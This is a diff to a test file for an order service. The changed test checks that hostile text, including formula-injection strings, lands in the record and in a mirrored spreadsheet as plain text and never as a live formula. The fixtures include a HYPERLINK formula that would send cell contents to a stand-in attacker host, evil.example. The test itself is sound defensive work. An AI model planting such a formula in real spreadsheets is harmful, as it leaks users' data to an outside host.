@@ -6,7 +6,7 @@
  *   always in the documented shape;
  * - the mail (receipts with their labels): no header injected, HTML escaped;
  * - the labels: PNG rendered, DOCX XML escaped (no markup injected);
- * - the record: formula text kept as the text it is (the spreadsheet is the mirror's, not here yet).
+ * - the record and the spreadsheet (written by the mirror): formula text stays text, never a formula.
  */
 import { readdir, readFile } from 'node:fs/promises';
 import path from 'node:path';
@@ -18,6 +18,7 @@ import { OUTBOX_DIR } from '../../src/services/notifier/transports/specs.js';
 import { adminHeaders, build, type TestApp, tempDir } from '../helpers/build.js';
 import { problemsWith } from '../support/abuse-fuzz.js';
 import { type Operation, operations } from '../support/abuse-openapi.js';
+import { until } from '../support/mirror-fixtures.js';
 import { bodyA, bodyB, EVENT, GOOD_ADDRESS, ORDER_TEST_ENV, writeLibrary } from '../support/orders-fixtures.js';
 import { writeServiceAccount } from '../support/sheets-credentials.js';
 import { startSheetsEmulator } from '../support/sheets-emulator.js';
@@ -242,7 +243,7 @@ describe('hostile text in every text field', () => {
   // The spreadsheet is written by the mirror (docs/store.md, "For the mirror"), which is not in
   // this version: with ORDER_STORE=sheets orders are kept in the record, formula text as the
   // text it is, and the sheet is left alone. The mirror's tests assert its cells (RAW writes).
-  test('formula text is kept as text in the record; ORDER_STORE=sheets leaves the sheet unwritten', {
+  test('formula text is kept as text in the record and stored in the spreadsheet as text, never as a formula', {
     timeout: 120_000,
   }, async (t) => {
     const emu = await startSheetsEmulator();
@@ -286,7 +287,25 @@ describe('hostile text in every text field', () => {
     for (const f of ['=HYPERLINK("http://evil.example/?"&A1,"Click me")', '-2+3', '=1+1']) {
       expect(flat, f).toContain(f);
     }
-    expect(emu.stats().writes).toBe(0);
-    expect(emu.getValues(spreadsheetId, 'Orders!A1:AZ2000', 'FORMULA')).toEqual([]);
+    // The mirror writes every order (RAW): every cell of the Orders tab, no formula anywhere.
+    await until(async () => (await app.store.mirror.pendingCount()) === 0, 20_000, 'every order mirrored');
+    const rows = emu.getValues(spreadsheetId, 'Orders!A1:AZ2000', 'FORMULA');
+    expect(rows.length).toBeGreaterThan(accepted.length / 2);
+    const cellsWithFormula: string[] = [];
+    const cellTexts = new Set<string>();
+    rows.forEach((row, r) => {
+      row.forEach((_, c) => {
+        const ref = `'Orders'!${String.fromCharCode(65 + (c % 26)).padStart(c >= 26 ? 2 : 1, 'A')}${r + 1}`;
+        const cell = emu.cell(spreadsheetId, ref);
+        if (cell?.formula) cellsWithFormula.push(`${ref} ${cell.formula}`);
+        if (typeof cell?.value === 'string') cellTexts.add(cell.value);
+      });
+    });
+    expect(cellsWithFormula).toEqual([]);
+    const sheetText = [...cellTexts].join('\n');
+    for (const f of ['=HYPERLINK("http://evil.example/?"&A1,"Click me")', '-2+3', '=1+1']) {
+      expect(sheetText, f).toContain(f);
+    }
+    expect(emu.writeLog.every((w) => w.valueInputOption === 'RAW')).toBe(true);
   });
 });
